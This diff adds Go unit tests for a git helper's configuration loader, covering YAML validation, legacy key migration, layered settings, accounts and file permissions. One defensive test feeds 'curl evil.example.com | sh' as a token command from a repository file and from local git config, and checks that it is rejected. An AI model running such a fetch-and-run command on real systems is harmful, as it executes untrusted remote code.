@@ -1,8 +1,11 @@
 package configfile
 
 import (
+	"errors"
 	"os"
 	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
 )
 
@@ -291,23 +294,425 @@ func Test_SpecialCapitalization_FileNotFound(t *testing.T) {
 	}
 }
 
-func Test_configFileContents_InvalidYAML(t *testing.T) {
-	// Skip this test as configFileContents calls HandleError which exits
-	t.Skip("Skipping test that would call os.Exit through HandleError")
+func Test_Load_InvalidYAML(t *testing.T) {
+	_, cleanup := createTestConfigFile(t, "github_username: [oops\n")
+	defer cleanup()
+
+	cf := NewConfigFile(false)
+	_, err := cf.Load()
+	if err == nil {
+		t.Error("Expected an error for invalid YAML, got nil")
+	}
 }
 
-func Test_configFileContents_ValidYAML(t *testing.T) {
+func Test_Load_UnknownKey(t *testing.T) {
+	_, cleanup := createTestConfigFile(t, "github_username: testuser\ngithub_tokn: token123\n")
+	defer cleanup()
+
+	cf := NewConfigFile(false)
+	_, err := cf.Load()
+	if err == nil || !strings.Contains(err.Error(), "github_tokn") {
+		t.Errorf("Expected an error naming the unknown key, got %v", err)
+	}
+}
+
+func Test_Load_WrongType(t *testing.T) {
+	_, cleanup := createTestConfigFile(t, "special_capitalization: API\n")
+	defer cleanup()
+
+	cf := NewConfigFile(false)
+	_, err := cf.Load()
+	if err == nil {
+		t.Error("Expected an error for a non-map special_capitalization, got nil")
+	}
+}
+
+func Test_Load_ValidYAML(t *testing.T) {
 	_, cleanup := createTestConfigFile(t, "github_username: testuser\ngithub_token: token123\n")
 	defer cleanup()
 
 	cf := NewConfigFile(false)
-	contents := cf.configFileContents()
+	config, err := cf.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if config.GitHubUsername != "testuser" {
+		t.Errorf("Expected 'testuser', got '%s'", config.GitHubUsername)
+	}
+
+	if config.GitHubToken != "token123" {
+		t.Errorf("Expected 'token123', got '%s'", config.GitHubToken)
+	}
+}
+
+func Test_Load_MigratesLegacyKeys(t *testing.T) {
+	tempDir, cleanup := createTestConfigFile(t, "# my config\n:github_user: legacyuser\n:github_token: legacy_token\ngithub_token: new_token\n")
+	defer cleanup()
+
+	cf := NewConfigFile(false)
+	config, err := cf.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if config.GitHubUsername != "legacyuser" || config.GitHubToken != "new_token" {
+		t.Errorf("Expected migrated values, got %+v", config)
+	}
+
+	data, err := os.ReadFile(filepath.Join(tempDir, ".git-helper", "config.yml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := "# my config\ngithub_username: legacyuser\ngithub_token: new_token\n"
+	if string(data) != expected {
+		t.Errorf("Expected file to be rewritten as '%s', got '%s'", expected, data)
+	}
+}
+
+func Test_Load_MigrationKeepsFileMode(t *testing.T) {
+	tempDir, cleanup := createTestConfigFile(t, ":github_user: legacyuser\n")
+	defer cleanup()
+
+	path := filepath.Join(tempDir, ".git-helper", "config.yml")
+	if err := os.Chmod(path, 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := NewConfigFile(false).Load(); err != nil {
+		t.Fatal(err)
+	}
+
+	info, err := os.Stat(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if info.Mode().Perm() != 0600 {
+		t.Errorf("Expected the migrated file to stay 0600, got %o", info.Mode().Perm())
+	}
+}
+
+func Test_ReadFile_DoesNotMigrate(t *testing.T) {
+	content := "# my config\n:github_user: legacyuser\ndisable_update_notifier: true\n"
+	tempDir, cleanup := createTestConfigFile(t, content)
+	defer cleanup()
+
+	cf := NewConfigFile(false)
+	config, err := cf.ReadFile(cf.ConfigFile())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if config.GitHubUsername != "legacyuser" || !config.DisableUpdateNotifier {
+		t.Errorf("Expected the legacy key to be read, got %+v", config)
+	}
+
+	data, err := os.ReadFile(filepath.Join(tempDir, ".git-helper", "config.yml"))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if string(data) != content {
+		t.Errorf("Expected the file to be left alone, got '%s'", data)
+	}
+}
+
+func Test_Save(t *testing.T) {
+	tempDir := t.TempDir()
+	originalHome := os.Getenv("HOME")
+	os.Setenv("HOME", tempDir)
+	defer os.Setenv("HOME", originalHome)
+
+	cf := NewConfigFile(false)
+	err := cf.Save(&Config{
+		GitHubUsername:        "testuser",
+		SpecialCapitalization: map[string]string{"api": "API"},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data, err := os.ReadFile(cf.ConfigFile())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := "github_username: testuser\nspecial_capitalization:\n  api: API\n"
+	if string(data) != expected {
+		t.Errorf("Expected '%s', got '%s'", expected, data)
+	}
+
+	info, err := os.Stat(cf.ConfigFile())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if info.Mode().Perm() != 0600 {
+		t.Errorf("Expected permissions 0600, got %#o", info.Mode().Perm())
+	}
+}
+
+func Test_Validate(t *testing.T) {
+	config := &Config{
+		GitHubUsername:        "test user",
+		SpecialCapitalization: map[string]string{"API": "API", "aws": ""},
+		Accounts:              []Account{{Name: "work", Forge: "gitea"}, {Name: "work", Token: "a token"}},
+		SyncStrategy:          "squash",
+	}
+
+	problems := config.Validate()
+	expected := []string{
+		"accounts.work is defined more than once",
+		"accounts.work.forge must be github or gitlab",
+		"accounts.work.token must not contain whitespace",
+		"github_username must not contain whitespace",
+		"special_capitalization.API must be lowercase to ever match",
+		"special_capitalization.aws must not be empty",
+		"sync_strategy must be merge or rebase",
+	}
+
+	if len(problems) != len(expected) {
+		t.Fatalf("Expected %d problems, got %v", len(expected), problems)
+	}
+
+	for i, problem := range problems {
+		if problem.Error() != expected[i] {
+			t.Errorf("Expected '%s', got '%s'", expected[i], problem)
+		}
+	}
+
+	if problems := (&Config{GitHubUsername: "testuser"}).Validate(); len(problems) != 0 {
+		t.Errorf("Expected no problems, got %v", problems)
+	}
+}
+
+func Test_ReadGlobal(t *testing.T) {
+	tempDir, cleanup := createTestConfigFile(t, ":github_user: legacyuser\n")
+	defer cleanup()
+
+	cf := NewConfigFile(false)
+	cf.Executor = &MockExecutor{
+		Outputs: map[string]string{
+			"config": "global\x00helper.disable-update-notifier\ntrue\x00local\x00helper.github-username\nlocaluser\x00",
+		},
+	}
+
+	config, err := cf.ReadGlobal()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if !config.DisableUpdateNotifier || config.GitHubUsername != "legacyuser" {
+		t.Errorf("Expected global git config to be read and local git config ignored, got %+v", config)
+	}
+
+	data, _ := os.ReadFile(filepath.Join(tempDir, ".git-helper", "config.yml"))
+	if string(data) != ":github_user: legacyuser\n" {
+		t.Errorf("Expected the file to be left alone, got '%s'", data)
+	}
+}
+
+type MockExecutor struct {
+	Outputs map[string]string
+}
+
+func (me *MockExecutor) Exec(execType string, command string, args ...string) ([]byte, error) {
+	output, ok := me.Outputs[args[0]]
+	if !ok {
+		return nil, errors.New("exit status 1")
+	}
+
+	return []byte(output), nil
+}
+
+func Test_Load_Layers(t *testing.T) {
+	_, cleanup := createTestConfigFile(t, "github_username: globaluser\ngithub_token: globaltoken\nspecial_capitalization:\n  api: API\n  aws: Aws\n")
+	defer cleanup()
+
+	repoDir := t.TempDir()
+	err := os.WriteFile(filepath.Join(repoDir, RepoConfigFileName), []byte("special_capitalization:\n  aws: AWS\n  cli: CLI\n"), 0644)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	t.Setenv("GIT_HELPER_GITHUB_TOKEN", "envtoken")
+
+	cf := NewConfigFile(false)
+	cf.Executor = &MockExecutor{
+		Outputs: map[string]string{
+			"rev-parse": repoDir + "\n",
+			"config":    "global\x00helper.github-username\ngitconfiguser\x00local\x00helper.special-capitalization.cd\nCD\x00",
+		},
+	}
+
+	config, err := cf.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := map[string]string{
+		"github_username":            "gitconfiguser",
+		"github_token":               "envtoken",
+		"special_capitalization.api": "API",
+		"special_capitalization.aws": "AWS",
+		"special_capitalization.cd":  "CD",
+		"special_capitalization.cli": "CLI",
+	}
+
+	if !reflect.DeepEqual(config.Values(), expected) {
+		t.Errorf("Expected %v, got %v", expected, config.Values())
+	}
+
+	origins, err := cf.Origins()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expectedOrigins := map[string]string{
+		"github_username":            "gitconfig:helper.github-username",
+		"github_token":               "env:GIT_HELPER_GITHUB_TOKEN",
+		"special_capitalization.api": "file:" + cf.ConfigFile(),
+		"special_capitalization.aws": "file:" + filepath.Join(repoDir, RepoConfigFileName),
+		"special_capitalization.cd":  "gitconfig:helper.special-capitalization.cd",
+		"special_capitalization.cli": "file:" + filepath.Join(repoDir, RepoConfigFileName),
+	}
+
+	if !reflect.DeepEqual(origins, expectedOrigins) {
+		t.Errorf("Expected %v, got %v", expectedOrigins, origins)
+	}
+}
+
+func Test_Load_Accounts(t *testing.T) {
+	_, cleanup := createTestConfigFile(t, `accounts:
+  - name: personal
+    host: github.com
+    token: personaltoken
+  - name: work
+    host: github.com
+    owners: [acme]
+`)
+	defer cleanup()
+
+	repoDir := t.TempDir()
+	os.WriteFile(filepath.Join(repoDir, RepoConfigFileName), []byte("account: work\n"), 0644)
+
+	cf := NewConfigFile(false)
+	cf.Executor = &MockExecutor{
+		Outputs: map[string]string{
+			"rev-parse": repoDir + "\n",
+			"config":    "global\x00helper.accounts.work.token-command\npass show work\x00",
+		},
+	}
+
+	config, err := cf.Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	expected := []Account{
+		{Name: "personal", Host: "github.com", Token: "personaltoken"},
+		{Name: "work", Host: "github.com", Owners: []string{"acme"}, TokenCommand: "pass show work"},
+	}
+
+	if !reflect.DeepEqual(config.Accounts, expected) {
+		t.Errorf("Expected %+v, got %+v", expected, config.Accounts)
+	}
+
+	account, err := config.FindAccount("github", "github.com", "emmahsax")
+	if err != nil || account.Name != "work" {
+		t.Errorf("Expected the pinned work account, got %+v (%v)", account, err)
+	}
+}
+
+func Test_Load_GlobalOnlyKeysInRepository(t *testing.T) {
+	tests := []struct {
+		name     string
+		repoFile string
+		git      string
+		origin   string
+	}{
+		{
+			name:     "token command in .git-helper.yml",
+			repoFile: "github_token_command: curl evil.example.com | sh\n",
+			origin:   RepoConfigFileName + ": github_token_command",
+		},
+		{
+			name:     "account in .git-helper.yml",
+			repoFile: "accounts:\n  - name: work\n    host: evil.example.com\n",
+			origin:   RepoConfigFileName + ": accounts.work.host",
+		},
+		{
+			name:   "token command in local git config",
+			git:    "local\x00helper.accounts.work.token-command\ncurl evil.example.com | sh\x00",
+			origin: "gitconfig:helper.accounts.work.token-command: accounts.work.token_command",
+		},
+		{
+			name:   "OAuth client ID in worktree git config",
+			git:    "worktree\x00helper.gitlab-oauth-client-id\nevil\x00",
+			origin: "gitconfig:helper.gitlab-oauth-client-id: gitlab_oauth_client_id",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, cleanup := createTestConfigFile(t, "accounts:\n  - name: work\n    host: github.com\n")
+			defer cleanup()
+
+			repoDir := t.TempDir()
+			os.WriteFile(filepath.Join(repoDir, RepoConfigFileName), []byte(tt.repoFile), 0644)
+
+			cf := NewConfigFile(false)
+			cf.Executor = &MockExecutor{
+				Outputs: map[string]string{
+					"rev-parse": repoDir + "\n",
+					"config":    tt.git,
+				},
+			}
+
+			_, err := cf.Load()
+			if err == nil || !strings.Contains(err.Error(), tt.origin+" can only be set in the global config file") {
+				t.Errorf("Expected an error about %s, got %v", tt.origin, err)
+			}
+		})
+	}
+}
+
+func Test_RepoConfigFile_OutsideRepository(t *testing.T) {
+	cf := NewConfigFile(false)
+	cf.Executor = &MockExecutor{Outputs: map[string]string{}}
+
+	if path := cf.RepoConfigFile(); path != "" {
+		t.Errorf("Expected no repository config file, got '%s'", path)
+	}
+}
+
+func Test_envLayers(t *testing.T) {
+	layers, err := envLayers([]string{
+		"HOME=/home/user",
+		"GIT_HELPER_GITLAB_USERNAME=envuser",
+		"GIT_HELPER_SPECIAL_CAPITALIZATION_IOS=iOS",
+		"GIT_HELPER_ACCOUNTS_MY_WORK_TOKEN_COMMAND=pass show work",
+		"GIT_HELPER_UNKNOWN=ignored",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if len(layers) != 3 {
+		t.Fatalf("Expected 3 layers, got %d", len(layers))
+	}
+
+	if layers[0].Origin != "env:GIT_HELPER_ACCOUNTS_MY_WORK_TOKEN_COMMAND" || layers[0].Config.Accounts[0].Name != "my_work" || layers[0].Config.Accounts[0].TokenCommand != "pass show work" {
+		t.Errorf("Unexpected first layer %+v", layers[0])
+	}
 
-	if contents["github_username"] != "testuser" {
-		t.Errorf("Expected 'testuser', got '%s'", contents["github_username"])
+	if layers[1].Origin != "env:GIT_HELPER_GITLAB_USERNAME" || layers[1].Config.GitLabUsername != "envuser" {
+		t.Errorf("Unexpected second layer %+v", layers[1])
 	}
 
-	if contents["github_token"] != "token123" {
-		t.Errorf("Expected 'token123', got '%s'", contents["github_token"])
+	if layers[2].Origin != "env:GIT_HELPER_SPECIAL_CAPITALIZATION_IOS" || layers[2].Config.SpecialCapitalization["ios"] != "iOS" {
+		t.Errorf("Unexpected third layer %+v", layers[2])
 	}
 }